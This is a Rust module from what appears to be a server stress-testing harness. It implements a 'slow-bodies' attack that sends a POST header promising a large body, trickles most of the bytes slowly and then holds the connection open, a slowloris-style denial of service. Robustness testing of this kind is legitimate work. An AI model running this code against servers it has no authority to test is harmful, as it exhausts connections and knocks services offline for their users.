//! Holds connections whose bodies never end.

use super::{Attack, MANY, WITH_BODIES};
use crate::aim::Aim;
use anyhow::Result;
use futures::FutureExt as _;
use std::time::Duration;
use tokio::io::AsyncWriteExt;

pub(super) const ATTACK: Attack = Attack {
    name: "slow-bodies",
    about: "Holds connections whose bodies never end",
    targets: WITH_BODIES,
    attackers: MANY,
    leaves_answers: false,
    other_honest: None,
    once: |aim| once(aim).boxed(),
};

async fn once(aim: Aim) -> Result<()> {
    let mut stream = aim.connect().await?;
    stream.write_all(format!("{}content-length: 60000\r\n\r\n", aim.requests.any_post()).as_bytes()).await?;
    let piece = "x".repeat(1000);
    for _ in 0..59 {
        stream.write_all(piece.as_bytes()).await?;
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    aim.hold(stream).await;
    Ok(())
}
